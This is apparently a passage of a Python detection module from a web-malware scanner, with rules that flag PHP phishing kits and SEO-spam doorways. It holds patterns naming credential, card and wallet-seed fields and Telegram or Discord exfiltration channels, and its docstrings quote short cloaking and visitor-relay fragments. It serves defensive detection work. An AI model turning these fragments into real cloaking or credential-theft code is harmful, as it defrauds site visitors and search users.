"""Rules about phishing kits and SEO spam: crawler cloaking, remote content served to crawlers,
visitor data relayed to a controller, form fields mailed to a fixed address, anti-bot gates,
JavaScript written into the page to steal cookies or run hidden code, search-referrer
redirects.
"""

from __future__ import annotations

import collections
import itertools
import re
from collections.abc import Callable, Iterable, Iterator

from spamtrace.scanner import fold
from spamtrace.scanner.context import (
    CRAWLER_TESTS,
    INCLUDE_LIT,
    KEEP,
    NAME_P,
    NOT_CALL_BEFORE,
    PLACEHOLDER,
    REMOTE_FETCH,
    TAIL_LITERAL,
    TAIL_RHS,
    UIN_RE,
    VAR,
    WEB_SCHEMES,
    Ctx,
    Hit,
    appended_path,
    braced,
    called_any,
    calls_to,
    close_paren,
    excerpt,
    feature,
    first_arg,
    function_bodies,
    function_body,
    has_any,
    has_word,
    in_loop,
    interpolated,
    literals_holding,
    per_file,
    prefiltered_finditer,
    prefiltered_search,
    recipient_literals,
    search_named,
    search_needing,
    split_top,
    string_at,
    string_hit,
    string_text,
    top_args,
    var_assigns,
    var_mentions,
    web_address,
)
from spamtrace.scanner.features.execution import visitor_filled
from spamtrace.scanner.lexer import find, lex
from spamtrace.scanner.rules import Rule
from spamtrace.scanner.rx import Branches, tight
from spamtrace.scanner.taint import assignment_before, taint

_WHOLE_REQUEST = tight(rb"\s*\(\s*\$_(?:server|request|cookie|post|get)\s*[,)]")


_REMOTE_SEND = (b"curl_exec", b"file_get_contents", b"fsockopen", b"stream_context_create",
                b"stream_socket_client", b"fopen")  # fmt: skip


_WEB_ADDRESS = tight(rb"https?:/")


_HASHED = tight(rb"(?:md5|sha1|hash|hash_hmac|crc32)\s*\([^;]{0,60}$")


_RANDOM_SOURCES = tight(rb"microtime|uniqid|mt_rand|random_bytes|random_int|openssl_random")


def _seed_or_hash(code: bytes, pos: int) -> bool:
    """Whether the serialize() call at ``pos`` is hashed (``md5(serialize($_SERVER))``) or
    glued to a random source (``serialize($_SERVER) . microtime(true)``): a unique id or a
    random seed, which libraries such as TCPDF build this way, not data sent anywhere."""
    if _HASHED.search(code, max(0, pos - 80), pos) is not None:
        return True
    start = code.rfind(b";", max(0, pos - 160), pos) + 1 or max(0, pos - 160)
    end = find(code, b";", pos, pos + 200)
    stmt = code[start : end if end >= 0 else pos + 200]
    return _RANDOM_SOURCES.search(stmt) is not None


@feature("request_relay")
def _request_relay(ctx: Ctx, rule: Rule) -> Hit | None:
    """The visitor's whole $_SERVER/$_REQUEST/$_COOKIE array serialized in a script that
    talks to a remote web server: every visit is relayed to a controller (cloaking / traffic
    sale / click fraud kits), which then decides what the visitor sees."""
    code = ctx.code
    if not has_word(ctx, b"$_") or not has_any(ctx, _REMOTE_SEND):
        return None
    # a web address to send to: "http" alone is in every header name ("HTTP_X_TOKEN") of a
    # webhook that only logs the request to a file of its own
    if _WEB_ADDRESS.search(string_text(ctx)) is None:
        return None
    for name in (b"serialize", b"var_export"):
        pos = find(code, name)
        while pos >= 0:
            if (
                (not pos or code[pos - 1] not in NOT_CALL_BEFORE)
                and _WHOLE_REQUEST.match(code, pos + len(name))
                and not _seed_or_hash(code, pos)
            ):
                return Hit(ctx.line_of_code(pos), ctx.excerpt_code(pos, pos + 80))
            pos = find(code, name, pos + len(name))
    return None


_CRAWLERS = tight(rb"googlebot|bingbot|slurp|yandex|baiduspider|msnbot")


_PHARMA = tight(
    rb"viagra|cialis|levitra|tadalafil|sildenafil|casino|payday|replica|porn|pharma"
)


@feature("crawler_cloaking")
def _crawler_cloaking(ctx: Ctx, rule: Rule) -> Hit | None:
    """A test of the user agent for search-engine crawlers in the same condition as spam
    keywords of the requested URL (pharma, casino...): search engines and spam-search visitors
    are served other content than the site's (SEO spam cloaking)."""
    code = ctx.code
    if string_text(ctx).find(b"user_agent") < 0:
        return None
    for start, args in calls_to(ctx, CRAWLER_TESTS, 100):
        p = PLACEHOLDER.match(args.strip())
        if p is None or _CRAWLERS.search(ctx.lx.value(int(p.group(1))).lower()) is None:
            continue
        # the same condition also looks for spam words
        lo = max(code.rfind(b"if", 0, start), start - 400)
        hi = find(code, b"{", start)
        window = code[lo : hi if 0 <= hi - start < 800 else start + 800]
        for q in PLACEHOLDER.finditer(window):
            if _PHARMA.search(ctx.lx.value(int(q.group(1))).lower()):
                return Hit(ctx.line_of_code(start), ctx.excerpt_code(start, start + 80))
    return None


_SERVE = tight(rb"\b(?:echo|print|die|exit|eval|include|require)\b")


@feature("crawler_remote")
def _crawler_remote(ctx: Ctx, rule: Rule) -> Hit | None:
    """A test of the user agent (or of the visitor's reverse-DNS name, ``gethostbyaddr()``:
    ``googlebot.com``) for search-engine crawlers, followed (in the next ~1,000 bytes of
    code) by content fetched from a literal http(s) address and output: crawlers are served
    pages from the operator's host (a doorway, SEO spam cloaking)."""
    text = string_text(ctx)
    if find(text, b"http") < 0 or (
        find(text, b"user_agent") < 0 and not has_word(ctx, b"gethostbyaddr")
    ):
        return None
    value = ctx.lx.value
    for start, args in calls_to(ctx, CRAWLER_TESTS, 100):
        crawler = any(
            _CRAWLERS.search(value(int(q.group(1))).lower())
            for q in itertools.islice(PLACEHOLDER.finditer(args), 4)
        )
        if not crawler:
            continue
        flag = _flag_set(ctx.code, start)
        for at in [start, *_predicate_calls(ctx, start)]:
            hit = _crawler_fetch_served(ctx, at, flag if at == start else None)
            if hit is not None:
                return hit
    return None


# a fetch whose address is an expression (a variable, a concatenation), its answer kept
_FETCH_KEPT = tight(
    rb"\$(" + NAME_P + rb")\s*=\s*@?\s*(?:file_get_contents|curl_init)\s*\("
)
# the visitor's user agent, as $_SERVER or getenv() gives it
_AGENT_KEY = b"http_user_agent"


def _address_texts(ctx: Ctx, arg: bytes, before: int) -> list[bytes]:
    """The text of an address expression and of what its variables were set to before
    ``before``, three levels back (``$u = 'http://' . $host . "?ua=$ua"; $ua =
    urlencode($_SERVER['HTTP_USER_AGENT']);``): double-quoted literals' text interpolated."""
    code = ctx.code[:before]
    texts = [arg]
    seen: set[bytes] = set()
    frontier = [arg]
    for _level in range(3):
        nxt: list[bytes] = []
        for t in frontier:
            for v in itertools.islice(VAR.finditer(interpolated(ctx, t, keep_plain=True)), 12):
                name = v.group(1)
                if name in seen:
                    continue
                seen.add(name)
                nxt += [a.group(1) for _, a in var_assigns(code, name, TAIL_RHS, 4)]
        texts += nxt
        frontier = nxt
    return texts


@feature("crawler_visitor_proxied")
def _crawler_visitor_proxied(ctx: Ctx, rule: Rule) -> Hit | None:
    """A doorway that lets a remote host write the page: in a file that tests the user agent
    (or the visitor's reverse-DNS name) for search-engine crawlers, a web address of another
    host given the visitor's user agent (``'http://' . $host . "?req=$uri&ua=$ua&ip=$ip"``,
    built in variables first) is fetched and what it answers is printed (``die($data
    ['content'])``, ``echo $page``): the operator's server picks what crawlers and search
    visitors see, page by page, under the site's name. A prerendering service is given the
    page's URL, not the user agent; a tracker sends the agent but prints nothing back."""
    text = string_text(ctx)
    if find(text, _AGENT_KEY) < 0 or find(text, b"http") < 0:
        return None
    value = ctx.lx.value
    if not _crawler_named(ctx):
        return None
    code = ctx.code
    for kept, at, arg in _fetches_kept(ctx):
        if PLACEHOLDER.fullmatch(arg.strip()) is not None:
            continue  # a literal address: the crawler rules' own case
        texts = _address_texts(ctx, arg, at)
        lits = [
            value(int(q.group(1))).lower()
            for t in texts
            for q in itertools.islice(PLACEHOLDER.finditer(t), 20)
        ]
        joined = b" ".join(interpolated(ctx, t) for t in texts)
        agent = _AGENT_KEY in lits or find(joined, _AGENT_KEY) >= 0
        remote = any(x.lstrip().startswith(WEB_SCHEMES[:2]) for x in lits)
        if not (agent and remote):
            continue
        held = re.compile(
            rb"(?:echo|print|die|exit)\b\s*\(?[^;]{0,80}?\$" + re.escape(kept) + rb"\b"
        )
        if held.search(code, at) is not None:
            return Hit(ctx.line_of_code(at), ctx.excerpt_code(at, at + 100))
    return None


# the visitor's reverse-DNS name tested for a search engine's domain:
# strpos(gethostbyaddr($_SERVER['REMOTE_ADDR']), 'google')
_RDNS_ENGINES = tight(rb"google|bing|yahoo|yandex|baidu|msn")


def _crawler_named(ctx: Ctx) -> bool:
    """The file tests the visitor for search-engine crawlers: a string test of the user
    agent naming one (googlebot, bingbot...), or of the visitor's reverse-DNS name
    (``gethostbyaddr()``) naming a search engine's domain (google, search.msn.com)."""
    value = ctx.lx.value
    for _start, args in calls_to(ctx, CRAWLER_TESTS, 100):
        lits = [
            value(int(q.group(1))).lower()
            for q in itertools.islice(PLACEHOLDER.finditer(args), 4)
        ]
        if any(_CRAWLERS.search(x) for x in lits):
            return True
        if find(args, b"gethostbyaddr") >= 0 and any(_RDNS_ENGINES.search(x) for x in lits):
            return True
    return False


# curl's two-step fetch: the address set on a handle, the answer kept from curl_exec()
_CURL_URL_SET = tight(rb"curl_setopt\s*\(\s*\$(\w+)\s*,\s*curlopt_url\s*,")
_CURL_EXEC_KEPT = tight(rb"\$(" + NAME_P + rb")\s*=\s*@?\s*curl_exec\s*\(\s*\$(\w+)\s*\)")


def _fetches_kept(ctx: Ctx) -> Iterator[tuple[bytes, int, bytes]]:
    """Each fetch whose answer a variable keeps: (that variable, where the fetch is, its
    address expression); ``$p = file_get_contents(ADDR)``, ``$h = curl_init(ADDR)`` and
    ``curl_setopt($h, CURLOPT_URL, ADDR); ... $p = curl_exec($h);``."""
    code = ctx.code
    for m in itertools.islice(_FETCH_KEPT.finditer(code), 20):
        yield m.group(1), m.start(), first_arg(code[m.end() : m.end() + 400])
    if not has_word(ctx, b"curlopt_url"):
        return
    for e in itertools.islice(_CURL_EXEC_KEPT.finditer(code), 20):
        handle = e.group(2)
        for u in _CURL_URL_SET.finditer(code, max(0, e.start() - 2000), e.start()):
            if u.group(1) == handle:
                yield e.group(1), u.start(), first_arg(code[u.end() : u.end() + 400])


# the site's own host name, as $_SERVER or getenv() gives it
_HOST_KEYS = (b"http_host", b"server_name")
# the details of one visit a doorway's server picks its answer by: who asks (the user agent,
# the address), from where (the referrer, the language) and for which page
_VISIT_KEYS = (
    (b"http_user_agent",),
    (b"remote_addr", b"http_x_forwarded_for", b"http_client_ip", b"http_x_real_ip"),
    (b"http_referer",),
    (b"http_accept_language",),
    (b"request_uri",),
)
# a search engine named in a test of the visitor (the agent or the referrer)
_SEARCH_ENGINES = tight(rb"google|bing|yahoo|yandex|baidu|slurp|msnbot")
_OWN_CALL = tight(rb"(?<![\w$>:\\])([a-z_\x80-\xff][\w\x80-\xff]*)\s*\(")
_DEFINED = tight(rb"(?<![\w$>:])define\s*\(\s*\x01(\d+)\x01\s*,\s*\x01(\d+)\x01\s*\)")
_THEN_STOPS = tight(rb"\s*(?:exit|die)\b")
_TEST_CALL = tight(
    rb"(?<![\w$:])(?<!->)(?:" + b"|".join(CRAWLER_TESTS) + rb")\s*\("
)


def _search_visitor_test(ctx: Ctx) -> bool:
    """The file tests the visitor's user agent or referrer (the key itself, or a variable
    set from it, two levels back) against the name of a search engine (``preg_match
    ("@google|yahoo|bing@", $ua)``, ``stristr($agent, 'googlebot')``)."""
    value = ctx.lx.value
    code = ctx.code
    # a test written as an array's value ("isBot" => preg_match(...)) counts too
    for m in itertools.islice(prefiltered_finditer(_TEST_CALL, code, ctx.first), 200):
        start = m.start()
        rest = code[m.end() : m.end() + 300]
        args = rest[: close_paren(rest)]
        lits = [value(int(q.group(1))).lower() for q in PLACEHOLDER.finditer(args)]
        if not any(_SEARCH_ENGINES.search(x) for x in lits):
            continue
        texts = _address_texts(ctx, args, start)
        held = [value(int(q.group(1))).lower() for t in texts for q in PLACEHOLDER.finditer(t)]
        if any(k in held for k in (b"http_user_agent", b"http_referer")):
            return True
    return False


def _relay_functions(ctx: Ctx) -> dict[bytes, bytes]:
    """The file's own functions that download and return what they got, and those that
    return what one of them returns (``function g($p) { $w = http($p); ... return $w; }``),
    two levels: name -> body."""
    bodies = function_bodies(ctx)
    found = {n: bodies[n] for n in _fetch_functions(ctx) if n in bodies}
    for _round in range(2):
        more = {
            name: body
            for name, body in bodies.items()
            if name not in found and len(body) < 3000 and find(body, b"return") >= 0
            and any(m.group(1) in found for m in itertools.islice(_OWN_CALL.finditer(body), 60))
        }
        if not more:
            break
        found.update(more)
    return found


def _sends_visit(ctx: Ctx, args: bytes, before: int) -> tuple[bool, list[bytes]]:
    """Whether the arguments ``args`` of a fetch (their variables followed three levels
    back, and the bodies of the file's own functions they call) carry the site's host name
    and two or more details of the visit (:data:`_VISIT_KEYS`); and the texts looked at."""
    texts = _address_texts(ctx, args, before)
    bodies = function_bodies(ctx)
    for t in list(texts):
        for c in itertools.islice(_OWN_CALL.finditer(t), 8):
            body = bodies.get(c.group(1))
            if body is not None and len(body) < 2000:
                texts.append(body)
    value = ctx.lx.value
    lits = {value(int(q.group(1))).lower() for t in texts for q in PLACEHOLDER.finditer(t)}
    if not any(k in lits for k in _HOST_KEYS):
        return False, texts
    return sum(any(k in lits for k in keys) for keys in _VISIT_KEYS) >= 2, texts


def _names_remote(ctx: Ctx, texts: list[bytes]) -> bool:
    """A web address of another host is in ``texts``: a literal with a web scheme, or a
    define()d constant holding one named there; not the visitor's own URL (a scheme joined
    to the site's host name, as a prerendering service is given)."""
    value = ctx.lx.value
    lits = [value(int(q.group(1))).lower().lstrip() for t in texts for q in PLACEHOLDER.finditer(t)]
    if any(x in _OWN_URL_KEYS for x in lits) and any(x.endswith(b"://") for x in lits):
        own = re.compile(rb"\x01(\d+)\x01\s*\.\s*\$_server\s*\[\s*\x01(\d+)\x01")
        for t in texts:
            for m in itertools.islice(own.finditer(t), 8):
                if value(int(m.group(1))).endswith(b"://") and value(
                    int(m.group(2))
                ).lower() in _HOST_KEYS:
                    return False
    if any(x.startswith(WEB_SCHEMES[:2]) for x in lits):
        return True
    consts = {
        value(int(d.group(1))).lower(): value(int(d.group(2))).lower().lstrip()
        for d in itertools.islice(_DEFINED.finditer(ctx.code), 40)
    }
    for name, val in consts.items():
        if not val.startswith(WEB_SCHEMES[:2]) or re.fullmatch(rb"[a-z_]\w*", name) is None:
            continue
        word = re.compile(rb"(?<![\w$>:\x01'\"])" + re.escape(name) + rb"(?![\w(\x01])")
        if any(word.search(t) for t in texts):
            return True
    return False


@feature("doorway_visit_relayed")
def _doorway_visit_relayed(ctx: Ctx, rule: Rule) -> Hit | None:
    """A doorway that has a remote server answer each visit: in a file that tests the
    visitor's agent or referrer for a search engine, a fetch (directly, or by the file's own
    download functions, two levels) of a web address of another host given the site's host
    name and two or more details of the visit (the agent, the address, the referrer, the
    language, the page asked for; as a query string, an array for http_build_query, through
    variables and helper functions) whose answer is printed and the script stopped (``die
    ($page)``, ``echo $page; exit;``): a traffic system picks what crawlers and search
    visitors see under the site's name. A prerendering service is given the visitor's URL,
    a tracker's answer is not printed, a widget printed in the page does not stop it."""
    text = string_text(ctx)
    if find(text, b"http") < 0 or not any(find(text, k) >= 0 for k in _HOST_KEYS):
        return None
    if not _search_visitor_test(ctx):
        return None
    relays = _relay_functions(ctx)
    names = [b"file_get_contents", *sorted(relays)]
    fetch = re.compile(
        rb"\$(" + NAME_P + rb")\s*=\s*@?\s*(" + b"|".join(re.escape(n) for n in names)
        + rb")\s*\("
    )
    code = ctx.code
    for m in itertools.islice(fetch.finditer(code), 30):
        if any(find(b, code[m.start() : m.end()]) >= 0 for b in relays.values()):
            continue  # inside a download function itself
        rest = code[m.end() : m.end() + 1200]
        args = rest[: close_paren(rest)]
        sends, texts = _sends_visit(ctx, args, m.start())
        if not sends:
            continue
        called = relays.get(m.group(2))
        chain = [called] if called is not None else []
        for body in list(chain):
            chain += [
                relays[c.group(1)] for c in itertools.islice(_OWN_CALL.finditer(body), 40)
                if c.group(1) in relays and relays[c.group(1)] is not body
            ]
        if not _names_remote(ctx, texts + chain):
            continue
        var = re.escape(m.group(1))
        tail = code[m.end() : m.end() + 1500]
        printed = re.search(rb"(?:die|exit)\s*\(\s*\$" + var + rb"\b", tail)
        if printed is None:
            for p in itertools.islice(
                re.finditer(rb"(?:echo|print)\b[^;]{0,80}?\$" + var + rb"\b[^;]*;", tail), 6
            ):
                if _THEN_STOPS.match(tail, p.end()) is not None:
                    printed = p
                    break
        if printed is not None:
            return Hit(ctx.line_of_code(m.start()), ctx.excerpt_code(m.start(), m.start() + 100))
    return None


_FLAG_SET = tight(rb"\s*\$(" + NAME_P + rb")\s*=(?![=>])")


def _flag_set(code: bytes, start: int) -> bytes | None:
    """The variable the statement holding the test at ``start`` assigns its answer to
    (``$is_bot = str_contains($ua, 'bot') || ...``), or None."""
    lo = max(0, start - 300)
    head = max(code.rfind(b, lo, start) for b in (b";", b"{", b"}"))
    m = _FLAG_SET.match(code, head + 1) if head >= 0 or lo == 0 else None
    return m.group(1) if m is not None and m.end() <= start else None


def _predicate_calls(ctx: Ctx, start: int) -> list[int]:
    """Where the file calls the function of its own whose body holds ``start`` (a test such
    as ``function is_bot() { foreach ($bots as $b) if (stripos($ua, $b) ...) return true;
    }``): the test's answer is used at those calls."""
    code = ctx.code
    for name, body in function_bodies(ctx).items():
        at = find(code, body)
        if not 0 <= at <= start < at + len(body):
            continue
        call = re.compile(rb"(?<![\w$>:])" + re.escape(name) + rb"\s*\(")
        return [
            m.start() for m in itertools.islice(call.finditer(code), 10)
            if not at - 200 <= m.start() < at + len(body)
        ]
    return []


_NAMED_FUNCTION = tight(rb"(?<![\w$>:])function\s+&?\s*[a-z_\x80-\xff]")


def _led_by_flag(window: bytes, at: int, flag: bytes) -> bool:
    """Whether the statement at ``at`` of ``window`` tests ``$flag`` itself (``$bot &&
    ...``, ``$bot ? ... : ...``) or is the first of a block whose condition does (``if
    ($bot) { ...``)."""
    var = re.compile(rb"\$" + re.escape(flag) + rb"\b")
    ends = (window.rfind(b";", 0, at), window.rfind(b"{", 0, at), window.rfind(b"}", 0, at))
    head = max(ends)
    if var.search(window, head + 1, at) is not None:
        return True
    if head < 0 or head != ends[1]:
        return False
    cond = max(window.rfind(b, 0, head) for b in (b";", b"{", b"}"))
    return var.search(window, cond + 1, head) is not None


def _crawler_fetch_served(ctx: Ctx, start: int, flag: bytes | None = None) -> Hit | None:
    """A fetch of a literal http(s) address in the ~1,000 bytes of code after ``start``,
    whose content is output; when the test's answer went to the variable ``flag``, a fetch
    that a condition on ``flag`` leads to (one under another condition does not depend on
    the visitor)."""
    code = ctx.code
    value = ctx.lx.value
    window = code[start : start + 1000]
    declared = _NAMED_FUNCTION.search(window)
    if declared is not None:  # a function declared further on runs where it is called
        window = window[: declared.start()]
    fetches = list(itertools.islice(REMOTE_FETCH.finditer(window), 20))
    own = _fetch_functions(ctx)
    if own:  # the file's own download function given a literal address
        fetches += [
            c for c in itertools.islice(_LITERAL_CALL.finditer(window), 40)
            if c.group(2) in own
        ]
    for f in fetches:
        url = value(int(f.group(1))).lower().lstrip()
        if _visitors_url(ctx, window, f.end()) and _NUMERIC_HOST.match(url) is None:
            continue  # a prerendering service given the page asked for
        if flag is not None and not _led_by_flag(window, f.start(), flag):
            continue
        if url.startswith(WEB_SCHEMES[:2]) and _served(window, f.start()):
            at = start + f.start()
            return Hit(ctx.line_of_code(at), ctx.excerpt_code(at, at + 80))
    return None


_NUMERIC_HOST = tight(rb"\s*https?://[\d.]+[:/]")
# the address of the page the visitor asked for: its host and path on this server
_OWN_URL_KEYS = (b"request_uri", b"http_host", b"server_name", b"php_self", b"script_uri")


def _visitors_url(ctx: Ctx, text: bytes, at: int) -> bool:
    """The call whose first argument's leading literal ends at ``at`` in ``text`` joins the
    address of the page asked for to it (``'https://render.example/' .
    rawurlencode('https://' . $_SERVER['HTTP_HOST'] . $_SERVER['REQUEST_URI'])``): a
    prerendering service renders the site's own page for the crawler, not the operator's."""
    rest = text[at : at + 300]
    arg = rest[: close_paren(rest)]
    value = ctx.lx.value
    # the address may be built in a variable first ($target = 'https://' .
    # $_SERVER['HTTP_HOST'] . $_SERVER['REQUEST_URI']; ... rawurlencode($target)): one copy
    # followed, as the doorway's own address is
    parts = [arg]
    for v in itertools.islice(VAR.finditer(arg), 4):
        parts += [a.group(1) for _, a in var_assigns(ctx.code, v.group(1), TAIL_RHS, 3)]
    lits = [
        value(int(q.group(1))).lower()
        for part in parts
        for q in itertools.islice(PLACEHOLDER.finditer(part), 12)
    ]
    # the whole address, its scheme written before the host ('https://' . $_SERVER['HTTP_HOST']
    # . $_SERVER['REQUEST_URI']): a host and a path sent apart (door.php?host=..&uri=..) are
    # what a doorway's server builds its page for
    return any(x in _OWN_URL_KEYS for x in lits) and any(x.endswith(b"://") for x in lits)


@feature("spam_keyword_remote_page")
def _spam_keyword_remote_page(ctx: Ctx, rule: Rule) -> Hit | None:
    """A page fetched from a literal http(s) address for a keyword, and output whole,
    where the keyword is a spam word (pharma, casino, payday...) written in the fetch's
    address or in the value its variable starts from (``$k = $_GET['p'] ?? 'cheap-viagra';
    echo file_get_contents('http://spin.host/api/' . $k)``; two copies followed, a
    constant's define() read, the address given by sprintf() or CURLOPT_URL), and the page
    made for this site: its host name sent with the keyword or put into the page
    (``str_replace('{DOMAIN}', $_SERVER['HTTP_HOST'], $html)``), or the keyword picked at
    random: a doorway page that serves spun spam text under the hacked site's name. A
    licensed pharmacy's or a casino affiliate's own CMS, fetched for a page's slug, needs
    neither the host name nor a random keyword."""
    text = string_text(ctx)
    if prefiltered_search(_PHARMA, text) is None:
        return None
    code = ctx.code
    value = ctx.lx.value
    consts: dict[bytes, bytes] | None = None
    for m in itertools.islice(_SPAM_FETCH.finditer(code), 20):
        url = value(int(m.group(1) or m.group(2))).lower().lstrip()
        if not url.startswith(WEB_SCHEMES[:2]):
            continue
        rest = code[m.end() : m.end() + 600]
        args = rest[: close_paren(rest)]
        texts = [args]
        seen: set[bytes] = set()
        for level in range(2):  # what the variables were given, and theirs in turn
            for t in list(texts):
                for v in itertools.islice(VAR.finditer(t), 4):
                    if v.group(1) in seen:
                        continue
                    seen.add(v.group(1))
                    sets = var_assigns(code[: m.start()], v.group(1), TAIL_RHS, 3)
                    texts += [a.group(1) for _, a in sets]
            if level == 0 and _BARE_CONST.search(b" ".join(texts)) is not None:
                if consts is None:
                    consts = _defined_consts(ctx)
                texts += [
                    consts[c.group(1)]
                    for t in list(texts)
                    for c in itertools.islice(_BARE_CONST.finditer(t), 4)
                    if c.group(1) in consts
                ]
        spam = any(
            _PHARMA.search(value(int(q.group(1))).lower()) is not None
            for t in texts
            for q in itertools.islice(PLACEHOLDER.finditer(t), 10)
        )
        if not spam or (VAR.search(args) is None and args.find(b"$_") < 0):
            continue
        lo = max(0, m.start() - 300)
        served = _served(code[lo : m.start() + 1000], m.start() - lo) or (
            m.group(2) is not None and _SERVE.search(code, m.end(), m.end() + 600) is not None
        )
        if not served:
            continue
        joined = b" ".join(texts)
        random_pick = _PICKS_AT_RANDOM.search(joined) is not None
        if random_pick or _for_this_host(ctx, joined):
            return Hit(ctx.line_of_code(m.start()), ctx.excerpt_code(m.start(), m.start() + 80))
    return None


# a fetch of a literal address: file_get_contents('http://...' ...), sprintf()'s format as
# the address, or curl_setopt($ch, CURLOPT_URL, 'http://...' ...)
_SPAM_FETCH = tight(
    rb"(?:file_get_contents|curl_init|fopen|readfile|file|simplexml_load_file)\s*\(\s*"
    rb"(?:v?sprintf\s*\(\s*)?\x01(\d+)\x01|curlopt_url\s*,\s*\x01(\d+)\x01"
)
# a constant named in code (lower-cased by the lexer): kw, not a call, a variable or a key
_BARE_CONST = tight(rb"(?<![\w$>:\\'\x01])([a-z_][a-z0-9_]{1,40})\b(?!\s*(?:[(\[]|::))")
_DEFINE = tight(rb"(?<![\w$>:])define\s*\(\s*\x01(\d+)\x01\s*,\s*(\x01\d+\x01)\s*\)")
_HOST_KEYS = (b"http_host", b"server_name")


@per_file("defined-consts")
def _defined_consts(ctx: Ctx) -> dict[bytes, bytes]:
    """The constants the file defines to one literal: lower-cased name -> the literal."""
    value = ctx.lx.value
    return {
        value(int(d.group(1))).lower(): d.group(2)
        for d in itertools.islice(prefiltered_finditer(_DEFINE, ctx.code, ctx.first), 200)
    }


def _for_this_host(ctx: Ctx, texts: bytes) -> bool:
    """The site's host name is in ``texts`` (sent with the keyword), or the file puts it into
    a text it changes (str_replace('{DOMAIN}', $_SERVER['HTTP_HOST'], $html))."""
    value = ctx.lx.value
    if any(
        value(int(q.group(1))).lower() in _HOST_KEYS
        for q in itertools.islice(PLACEHOLDER.finditer(texts), 40)
    ):
        return True
    for _start, args in calls_to(ctx, (b"str_replace", b"str_ireplace", b"strtr"), 50):
        if any(
            value(int(q.group(1))).lower() in _HOST_KEYS
            for q in itertools.islice(PLACEHOLDER.finditer(args), 12)
        ):
            return True
    return False


# a statement that outputs what it computes (or runs it)
_OUTPUT_STMT = tight(rb"@?\s*(?:echo|print|die|exit|eval|include|require)\b")
_ASSIGNED = tight(rb"\$(\w+)\s*=(?![=>])")


_OB_CALLBACK = tight(rb"@?ob_start\s*\(\s*(?:static\s+)?(?:fn|function)\b")


def _served(window: bytes, at: int) -> bool:
    """Whether what the fetch at ``at`` of ``window`` returns is output: the fetch is in an
    echo/print/die/exit (or eval/include) statement, or is readfile() or curl (which prints
    what it gets unless told otherwise, and whose result is printed later), or a variable
    given it is output further on (``$page = file_get_contents(...); echo $page;``). A
    value fetched for the script's own use (exchange rates decoded with json_decode) is
    not."""
    if window.startswith((b"readfile", b"curl_init"), at):
        return _SERVE.search(window) is not None
    head = max(window.rfind(b";", 0, at), window.rfind(b"{", 0, at), window.rfind(b"}", 0, at))
    stmt = window[head + 1 : at]
    if _OUTPUT_STMT.match(stmt.lstrip()) is not None:
        return True
    if _OB_CALLBACK.match(stmt.lstrip()) is not None:
        return True  # in an output buffer's callback: what it returns is the page sent
    m = _ASSIGNED.match(stmt.lstrip())
    if m is None or stmt.find(b"(") >= 0:  # json_decode(file_get_contents(...)): used here
        return False
    out = re.compile(
        rb"(?:echo|print|die|exit)\b[^;]{0,200}?\$" + re.escape(m.group(1)) + rb"\b"
    )
    return out.search(window, at) is not None


_LITERAL_CALL = tight(rb"(?<![\w$>:])(?=(?:\w+)\s*\(\s*\x01(\d+)\x01)(\w+)")
_DOWNLOADS = tight(
    rb"(?<![\w$>:])(?:curl_exec|file_get_contents|wp_remote_get|wp_remote_retrieve_body|"
    rb"stream_get_contents|fread)\s*\("
)


@per_file("fetch-functions")
def _fetch_functions(ctx: Ctx) -> frozenset[bytes]:
    """The file's own functions that download and return what they got (a curl wrapper)."""
    return frozenset(
        name
        for name, body in function_bodies(ctx).items()
        if len(body) < 3000 and find(body, b"return") >= 0 and _DOWNLOADS.search(body)
    )


# ------------------------------------------------------------- phishing handlers, anti-bot gates
# the request field names of credentials and card data (a form's password, card number, CVV)
_CREDENTIAL_KEY = tight(
    rb"pass|pwd|psw|passwd|cvv|cvc|ccnum|cc_?num|cc_?no|card_?num|cardnumber|card_?no|card_?id|"
    rb"\bssn\b|\bpin\b|\botp|otp$|exp_?date|exp_?month|exp_?year|sortcode|routing|"
    rb"senha|contrase|kennwort|mot_?de_?passe|"
    # a second factor's code, by the factor's name alone: code2fa, twofa, mfa_code, 2fa_token
    # (a field that only switches the factor on, enable_2fa, names no code)
    rb"(?:^|\$)(?:code_?)?(?:2fa|mfa|tfa|two_?fa(?:ctor)?|authenticator)(?:_?(?:code|token|pin))?$|"
    # a wallet's keys: its recovery phrase, private key or keystore
    rb"^(?:seed|mnemonic|keystore)|seed_?phrase|recovery_?phrase|secret_?phrase|"
    rb"private_?key|privatekey|"
    rb"^(?:cc|cv|cvv2|csc|exp|expiry)$"
)
# the label a handler writes before a credential in the text it sends ("Password : ", "CVV=")
_CREDENTIAL_LABEL = tight(
    rb"(?:pass(?:word|wd|code)?|pwd|cvv2?|cvc|card ?(?:number|no)|ssn|pin|otp|expir\w*|"
    rb"sort ?code)\s*[:=|>-]"
)
# a chat service a kit sends its results to: a Telegram bot's sendMessage, a Discord webhook
_DISCORD_HOOK = tight(rb"discord(?:app)?\.com/api/webhooks/")


def _chat_drop(text: bytes) -> bool:
    """The literals' text names a Telegram bot's sendMessage or a Discord webhook: the chat
    services kits send their results to."""
    if find(text, b"api.telegram.org/bot") >= 0 and find(text, b"sendmessage") >= 0:
        return True
    return find(text, b"discord") >= 0 and _DISCORD_HOOK.search(text) is not None


def _credential_label(ctx: Ctx, text: bytes) -> bool:
    """A literal of ``text`` (the first 100) labels a credential: "Password : ", also with
    digits written for its letters ("PA55 : ", "P4SSW0RD="), as kits spell the words a mail
    filter or a chat's moderation would read."""
    for p in itertools.islice(PLACEHOLDER.finditer(text), 100):
        lit = ctx.lx.value(int(p.group(1))).lower()
        if _CREDENTIAL_LABEL.search(lit) is not None:
            return True
        if _LEET_DIGITS.search(lit) is not None and (
            _CREDENTIAL_LABEL.search(lit.translate(_LEET)) is not None
        ):
            return True
    return False


# a digit written for a letter: next to a letter, inside a word ("pa55", "p4ss", "passw0rd")
_LEET_DIGITS = tight(rb"[a-z][01345]|[01345][a-z]")
_LEET = bytes.maketrans(b"01345", b"oieas")


# a request element glued into text: . $_POST['k'] / $_POST['k'] . (code), an array's value
# ('pass' => $_POST['k']), or written inside a double-quoted literal: "$_POST[k]", "{$_POST['k']}"
# a field glued in as it came, or through a call that only encodes it for the wire
# (. urlencode($_POST['email']) .)
_REQ_ELEMENT_CODE = tight(
    rb"((?:\.|=>)\s*(?:(?:urlencode|rawurlencode|base64_encode|json_encode|trim)\s*\(\s*)?)?"
    rb"\$_(?:post|get|request)\s*\[\s*\x01(\d+)\x01\s*\](?=(\s*\)?\s*\.)|)"
)
_REQ_ELEMENT_TEXT = tight(rb"\$_(?:post|get|request)\s*\[\s*['\"]?([\w-]{1,40})")
# the calls of a drop that write a file (a results log, or a file the site keeps)
_FILE_WRITES = (b"fwrite", b"fputs", b"file_put_contents")
